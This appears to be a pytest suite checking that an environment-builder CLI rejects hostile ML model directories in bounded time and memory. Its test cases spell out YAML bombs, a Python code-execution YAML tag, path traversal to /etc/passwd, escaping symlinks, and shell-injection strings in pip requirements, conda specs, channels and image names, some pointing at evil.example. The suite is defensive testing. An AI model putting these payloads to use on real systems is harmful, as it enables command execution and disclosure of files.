"""Models that mean harm, through the command line: refused with a clear error, in bounded time and memory."""

from __future__ import annotations

import os
import resource
import subprocess
import sys
import time
from typing import TYPE_CHECKING

import pytest

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

pytestmark = pytest.mark.process

FLAVOR = "flavors:\n  python_function: {loader_module: m, python_version: 3.11.7}\n"
CONDA = "dependencies: [python=3.11, {pip: [six]}]\n"
MEGABYTE = 1024 * 1024
MEMORY = 768 * MEGABYTE
SECONDS = 15
"""Far more than it takes, and far less than a bomb would."""


def write(file: Path, text: str) -> None:
    file.write_text(text)


def with_conda(text: str) -> Callable[[Path], None]:
    return lambda model: write(model / "conda.yaml", text)


def with_mlmodel(text: str) -> Callable[[Path], None]:
    return lambda model: write(model / "MLmodel", text)


def with_requirement(line: str) -> Callable[[Path], None]:
    quoted = "".join(f"\\x{ord(character):02x}" if ord(character) < 128 else character for character in line)
    return with_conda(f'dependencies: [python=3.11, {{pip: ["{quoted}"]}}]\n')


def with_match_spec(text: str) -> Callable[[Path], None]:
    quoted = "".join(f"\\x{ord(character):02x}" for character in text)
    return with_conda(f'channels: [conda-forge]\ndependencies: [python=3.11, "{quoted}"]\n')


def huge(name: str) -> Callable[[Path], None]:
    def make(model: Path) -> None:
        with (model / name).open("r+b" if (model / name).exists() else "w+b") as stream:
            stream.seek(0, os.SEEK_END)
            stream.write(b"\n# " + b"x" * 100)
            stream.truncate(100 * MEGABYTE)

    return make


def link(name: str, target: str) -> Callable[[Path], None]:
    def make(model: Path) -> None:
        (model / name).unlink(missing_ok=True)
        (model / name).symlink_to(target)

    return make


BOMB = "a: &a [x, x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{name}: &{name} [{', '.join([f'*{before}'] * 10)}]\n" for before, name in zip("abcdefgh", "bcdefghi", strict=True)
)
CASES: dict[str, tuple[Callable[[Path], None], str]] = {
    "a YAML bomb": (with_conda(BOMB + CONDA), "more than 250000 values, aliases written out"),
    "a bomb of merges": (
        with_conda(
            "x0: &x0 {a: 1}\n"
            + "".join(f"x{n + 1}: &x{n + 1}\n  <<: [{', '.join([f'*x{n}'] * 9)}]\n" for n in range(9))
            + CONDA
        ),
        "more than 250000 values",
    ),
    "an alias of itself": (with_conda("a: &a [*a]\n" + CONDA), "which contains itself"),
    "deep nesting": (with_conda("a: " + "[" * 100_000 + "\n"), "nested deeper than 64 levels"),
    "deep nesting of a signature": (
        with_mlmodel(FLAVOR + "signature:\n  inputs: '" + "[" * 200_000 + "'\n"),
        "broken JSON: nested too deep",
    ),
    "a signature of deep types": (
        with_mlmodel(
            FLAVOR
            + 'signature:\n  inputs: \'[{"name": "a", '
            + '"type": "array", "items": {' * 500
            + '"type": "long"'
            + "}" * 501
            + "]'\n"
        ),
        "types nested deeper than 32 levels",
    ),
    "code in YAML": (with_conda("name: !!python/object/apply:os.system [id]\n" + CONDA), "is not accepted"),
    "an own tag": (with_mlmodel("a: !x b\n" + FLAVOR), "the tag `!x` is not accepted"),
    "an MLmodel of 100 MB": (huge("MLmodel"), "larger than 10 MiB"),
    "a conda.yaml of 100 MB": (huge("conda.yaml"), "larger than 10 MiB"),
    "a requirements.txt of 100 MB": (huge("requirements.txt"), "larger than 10 MiB"),
    "an environment outside": (
        with_mlmodel("flavors:\n  python_function: {loader_module: m, env: ../../etc/passwd}\n"),
        "leads out of the model directory",
    ),
    "an absolute environment": (
        with_mlmodel("flavors:\n  python_function: {loader_module: m, env: {conda: /etc/passwd}}\n"),
        "leads out of the model directory",
    ),
    "code outside": (
        with_mlmodel("flavors:\n  python_function: {loader_module: m, code: ../../root}\n"),
        "leads out of the model directory",
    ),
    "data outside": (
        with_mlmodel("flavors:\n  python_function: {loader_module: m, data: /etc}\n"),
        "leads out of the model directory",
    ),
    "an include outside": (with_requirement("-r ../../etc/passwd"), "leads out of the model directory"),
    "an absolute include": (with_requirement("-c /etc/passwd"), "leads out of the model directory"),
    "an included URL": (with_requirement("-r https://evil.example/x"), "leads out of the model directory"),
    "a wheel outside": (with_requirement("../evil-1-py3-none-any.whl"), "outside the model directory"),
    "an absolute wheel": (with_requirement("file:///tmp/evil-1-py3-none-any.whl"), "outside the model directory"),
    "a link to a file outside": (link("conda.yaml", "/etc/passwd"), "a link that leaves the model directory"),
    "a link to a folder outside": (link("data", "/etc"), "a link that leaves the model directory"),
    "a link to itself": (link("data", "."), "a link that leads back into itself"),
    "a link to nothing": (link("data", "nothing"), "a link to nothing"),
    "a device": (lambda model: os.mkfifo(model / "pipe"), "neither a file nor a directory"),
    "a newline in a requirement": (
        with_requirement("six\n--index-url https://evil.example"),
        "holds control characters",
    ),
    "a shell in a requirement": (with_requirement("six; $(id)"), "is not a requirement"),
    "a shell in a version": (with_requirement("six==1`id`"), "is not a requirement"),
    "a shell in any version": (with_requirement("six===1`id`"), "is not a version"),
    "a shell in a URL": (with_requirement("six @ https://h.example/$(id).whl"), "is not a URL"),
    "quotes in a URL": (with_requirement("six @ https://h.example/a';id;'.whl"), "is not a URL"),
    "another protocol": (with_requirement("six @ ext::sh -c id"), "is not a requirement"),
    "git by another program": (with_requirement("six @ git+ext://sh -c id"), "is not a requirement"),
    "git from a file": (
        with_requirement("six @ git+file:///root/secrets"),
        "is not a URL that packages can be fetched from",
    ),
    "an option that runs": (with_requirement("six --global-option=--evil"), "is not accepted after a requirement"),
    "a newline in a match spec": (with_match_spec("openblas\nRUN id"), "is not a match spec"),
    "a shell in a match spec": (with_match_spec("openblas=1;id"), "is not a version"),
    "a shell in a build": (with_match_spec("openblas 1 $(id)"), "the build string cannot be read"),
    "a shell in a channel": (with_conda("channels: ['x; id']\n" + CONDA), "is not a channel"),
    "a folder as a channel": (
        with_conda("channels: ['file:///root']\n" + CONDA),
        "a folder of the machine that builds",
    ),
    "a folder as a match spec's channel": (with_match_spec("/root::openblas"), "a folder of the machine that builds"),
    "a newline in a channel": (with_conda('channels: ["x\\nid"]\n' + CONDA), "is not a channel"),
    "a line that takes time": (with_requirement("a" * 19_000 + "!" + "[" * 900), "is not a requirement"),
    "a Python that takes time": (with_match_spec("python=" + "3." * 400 + "x"), "is not a Python version"),
    "a variable that runs": (with_conda('variables: {"A=$(id)": b}\n' + CONDA), "is not the name of a variable"),
    "an image that runs": (
        with_mlmodel(FLAVOR + "metadata: {azureml.base_image: 'python:3.11\\\\nRUN id && $(id)'}\n"),
        "is not the name of an image",
    ),
}


@pytest.mark.parametrize("case", CASES)
def test_a_hostile_model_is_refused_in_bounded_time_and_memory(case: str, tmp_path: Path) -> None:
    spoil, what = CASES[case]
    model = tmp_path / "model"
    model.mkdir()
    (model / "MLmodel").write_text(FLAVOR)
    (model / "conda.yaml").write_text(CONDA)
    spoil(model)
    begin = time.monotonic()
    finished = subprocess.run(
        [sys.executable, "-m", "envbuilder", "resolve", str(model)],
        env={**os.environ, "ENVBUILDER_CACHE_DIR": str(tmp_path / "cache")},
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
        cwd=tmp_path,
        preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_AS, (MEMORY, MEMORY)),
    )
    assert time.monotonic() - begin < SECONDS
    assert finished.returncode in (2, 9), finished.stderr
    assert finished.stdout == ""
    assert what in finished.stderr, finished.stderr[:2000]
    assert "hint: " in finished.stderr
    assert "Traceback" not in finished.stderr
    assert "root:x:0" not in finished.stderr
    assert len(finished.stderr) < 10_000


def test_many_files_through_links_are_refused(tmp_path: Path) -> None:
    """Ten links in each of ten levels: more files than any disk has."""
    for level in range(10):
        folder = tmp_path / f"level{level}"
        folder.mkdir()
        for number in range(10):
            target = f"../level{level + 1}" if level < 9 else "../MLmodel"
            (folder / f"link{number}").symlink_to(target)
    (tmp_path / "MLmodel").write_text(FLAVOR)
    finished = subprocess.run(
        [sys.executable, "-m", "envbuilder", "resolve", str(tmp_path)],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert finished.returncode == 9
    assert "more than 200000 files, links followed" in finished.stderr
